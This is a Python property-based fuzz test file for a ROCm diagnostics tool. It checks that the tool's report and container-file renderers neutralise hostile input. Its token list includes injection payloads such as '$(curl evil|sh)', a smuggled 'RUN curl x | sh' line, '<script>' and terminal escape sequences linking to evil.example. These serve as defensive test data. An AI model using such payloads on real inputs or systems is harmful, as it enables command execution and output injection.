"""Hypothesis fuzz of every renderer with hostile text (issue 13): random fleet replies, bundle manifests and
probe/tool outputs, and plan files go through the terminal, Markdown, JSON, HTML, Prometheus, Dockerfile and
Apptainer renderers. No control character, no markup error and no unquoted shell metacharacter from the data
may reach the output; generated files keep exactly their own structure."""

from __future__ import annotations

import io
import json
import re
import shutil
import tempfile
from pathlib import Path

from hostile_helpers import copy_healthy
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_container import BASE, sample_plan

from rocmdoctor.model import Finding, Fix, Severity

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
SENTINEL = "ZQX"
# text with everything that has a meaning somewhere: controls, escapes, markup, HTML, Markdown, shell, newlines
TOKENS = [*"[]/\\<>&|`$();'\"*_#!{}=,:\n\r\t\x1b\x07\x00\x9b\x85\u202e ",
          "[/]", "[link=https://evil.example]", "[bold red]", "\x1b]8;;https://evil.example\x1b\\", "\x1b[2J",
          "$(curl evil|sh)", "`id`", "<script>", "```", "Fix:", "\nRUN curl x | sh\n", "%post", SENTINEL]
HOSTILE = st.lists(st.one_of(st.sampled_from(TOKENS), st.characters(codec="utf-8")), max_size=16).map("".join)
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                       HealthCheck.function_scoped_fixture])


def _no_control(text: str, where: str) -> None:
    bad = CONTROL.search(text.replace("\n", "").replace("\t", ""))
    assert bad is None, (where, repr(text[max(0, bad.start() - 60): bad.end() + 60]))


PLACEHOLDERS = ('"$(uname -r)"', "$USER")  # rocmdoctor's own words for a refused value (sanitize.Raw)


def _shell_syntax_outside_quotes(command: str) -> str:
    """The shell metacharacters of ``command`` outside single quotes (rocmdoctor's placeholders removed)."""
    for p in PLACEHOLDERS:
        command = command.replace(p, "")
    out, quoted = [], False
    for ch in command:
        if ch == "'":
            quoted = not quoted
        elif not quoted and ch in "$`;|&()<>\n\"\\*?[]{}~#!":
            out.append(ch)
    return "".join(out)


def _terminal(host, findings) -> str:
    from rocmdoctor.report.render import render_terminal

    buf = io.StringIO()
    render_terminal(host, findings, verbose=True, file=buf, ascii_only=False)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------- fleet


@FUZZ
@given(names=st.lists(st.from_regex(r"[a-z][a-z0-9-]{0,8}", fullmatch=True), min_size=1, max_size=4, unique=True),
       texts=st.lists(HOSTILE, min_size=12, max_size=12))
def test_fleet_renderers_with_hostile_replies(names, texts):
    from rich.console import Console

    from rocmdoctor.fleet import report as rep
    from rocmdoctor.fleet.aggregate import HostAudit, aggregate

    audits = []
    for i, name in enumerate(names):
        t = [*texts[i * 3 % 12:i * 3 % 12 + 3], "", "", ""]
        audits.append(HostAudit(
            name=name, status="ok" if i % 2 == 0 else "bad-capture", detail=t[0],
            findings=[Finding(id="driver.dkms-failed", severity=Severity.FAIL, title=t[1], detail=t[2],
                              evidence=[t[0]], fix=Fix(t[1], [f"echo {t[2]}"]))],
            fingerprint={"kernel": t[0], "driver": t[1], "rocm": t[2], "torch": "2.5.1", "torch_hip": None,
                         "gpus": t[1] or None} if i % 2 == 0 else None))
    report = aggregate(audits)
    buf = io.StringIO()
    rep.print_terminal(report, Console(file=buf, width=100, force_terminal=False, color_system=None))
    term = buf.getvalue()
    _no_control(term, "fleet terminal")
    assert "\x1b" not in term
    doc = json.dumps(rep.to_json(report))
    assert json.loads(doc)["schema"] == "rocmdoctor-fleet/1"
    from rocmdoctor.sanitize import json_inert

    _no_control(json.dumps(json_inert(rep.to_json(report)), ensure_ascii=False), "fleet json")
    html = rep.html_text(report)
    _no_control(html, "fleet html")
    assert "<script" not in html and 'href="http' not in html  # the page's own links are #anchors only
    prom = rep.prometheus_text(report, now=0.0)
    _no_control(prom, "prometheus")
    sample = re.compile(r'^[a-z_]+(\{(?:[a-z]+="(?:[^"\\\n]|\\.)*",?)*\})? [0-9.e+-]+$')
    assert all(ln.startswith("# ") or sample.match(ln) for ln in prom.splitlines()), prom


# ---------------------------------------------------------------------------------------------- bundles

_BASE = Path(tempfile.mkdtemp(prefix="rocmdoctor-fuzz-base-"))
copy_healthy(_BASE / "b")


@settings(FUZZ, max_examples=30)
@given(hostname=HOSTILE, version=HOSTILE, kernel=HOSTILE, user=HOSTILE, group=HOSTILE, dkms=HOSTILE)
def test_check_renderers_with_hostile_bundle_text(hostname, version, kernel, user, group, dkms):
    from rocmdoctor.bundle import load_host
    from rocmdoctor.diagnose import judge_host
    from rocmdoctor.errors import BadInput
    from rocmdoctor.report.render import to_json, to_markdown

    tmp = Path(tempfile.mkdtemp(prefix="rocmdoctor-fuzz-"))
    try:
        b = tmp / "b"
        shutil.copytree(_BASE / "b", b)
        (b / "manifest.json").write_text(json.dumps({"format": "rocmdoctor-capture/1", "hostname": hostname,
                                                     "commands": []}))
        probe = json.loads((b / "cmd" / "torch-probe.json").read_text())
        probe["torch"]["version"] = "2.5.1+cu121" + version
        probe["torch"]["hip"] = None
        (b / "cmd" / "torch-probe.json").write_text(json.dumps(probe))
        (b / "root" / "proc").mkdir()
        (b / "root" / "proc" / "version").write_text(f"Linux version 6.5.0-17-generic{kernel}{SENTINEL} (b@x) #1\n")
        (b / "cmd" / "uname-r.txt").unlink()
        (b / "cmd" / "dkms-status.txt").write_text(f"amdgpu/6.8.5-2009582.22.04, 6.2.0-39-generic, x86_64: "
                                                   f"installed{dkms}\n")
        (b / "cmd" / "id.txt").write_text(f"uid=1000(al{user}{SENTINEL}) gid=1000(al) groups=1000(al)\n")
        (b / "cmd" / "stat-dev.txt").write_text(f"/dev/kfd 660 root rend{group}{SENTINEL} 0 109\n")
        try:
            host = load_host(b)
        except BadInput:
            return
        findings = judge_host(host)
        for out, where in ((_terminal(host, findings), "terminal"), (to_markdown(host, findings), "markdown"),
                           (to_json(host, findings), "json")):
            _no_control(out, where)
            assert "\x1b" not in out
            for line in out.splitlines():
                assert not re.match(r"\s*(\*\*)?Fix:(\*\*)? (RUN|\$\(|curl)", line), (where, line)
        fenced = False
        for line in to_markdown(host, findings).splitlines():
            if line.startswith("```"):
                fenced = not fenced
            elif not fenced:  # outside code blocks no HTML or link from the data
                assert "<script>" not in line and "[link=" not in line.replace("\\[link=", ""), line
        for f in findings:
            for cmd in (f.fix.commands if f.fix else []):
                if SENTINEL in cmd:  # a command built with a host value: that value is never shell syntax
                    assert _shell_syntax_outside_quotes(cmd) == "", cmd
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


# ---------------------------------------------------------------------------------------------- plans


@FUZZ
@given(field=st.sampled_from(["rocm", "python", "index_url", "channel", "env-value", "env-key", "reason",
                              "warning", "requirement", "gpu"]), value=HOSTILE)
def test_generated_files_keep_their_structure_with_hostile_plan_fields(field, value):
    from rocmdoctor.container.render_apptainer import render_apptainer
    from rocmdoctor.container.render_docker import render_dockerfile
    from rocmdoctor.container.spec import build_spec, plan_from_json
    from rocmdoctor.errors import BadInput

    d = sample_plan().to_dict()
    hashes = {r.name: r.sha256 for r in sample_plan().requirements}
    key = {"env-value": "env", "env-key": "env", "reason": "reasons", "warning": "warnings",
           "requirement": "requirements", "gpu": "gpus"}.get(field, field)
    if field == "env-value":
        d["env"] = {"HSA_OVERRIDE_GFX_VERSION": value}
    elif field == "env-key":
        d["env"] = {value: "1"}
    elif field in ("reason", "warning", "gpu"):
        d[key] = [value]
    elif field == "requirement":
        d["requirements"] = [*d["requirements"], f"{value}==1.0"]
    else:
        d[key] = value
    d["hashes"] = hashes
    try:
        plan = plan_from_json(d)
        spec = build_spec(plan, base=BASE, apt_pins={"python3.10": "3.10.12-1~22.04.9",
                                                      "python3.10-venv": "3.10.12-1~22.04.9"}, app_dir="app")
    except BadInput:
        return
    docker = render_dockerfile(spec)
    _no_control(docker, "Dockerfile")
    instructions = [ln.split()[0] for ln in docker.splitlines() if ln and not ln.startswith((" ", "#"))]
    assert set(instructions) <= {"ARG", "FROM", "ENV", "SHELL", "RUN", "COPY", "WORKDIR", "LABEL", "USER",
                                 "HEALTHCHECK"}, instructions
    assert instructions.count("FROM") == 1
    # hostile free text (a plan's reasons) may only survive as inert data inside the plan label's JSON string
    assert all("curl" not in ln or "io.rocmdoctor.plan=" in ln for ln in docker.splitlines())
    label = next(ln for ln in docker.splitlines() if "io.rocmdoctor.plan=" in ln)
    decoded = json.loads(json.loads(label.split("io.rocmdoctor.plan=", 1)[1].replace("\\$", "$")))
    assert decoded["requirements"]
    apptainer = render_apptainer(spec)
    _no_control(apptainer, "Apptainer")
    assert [ln for ln in apptainer.splitlines() if ln.startswith("%")] == [
        "%files", "%environment", "%post", "%labels", "%runscript", "%test", "%help"]
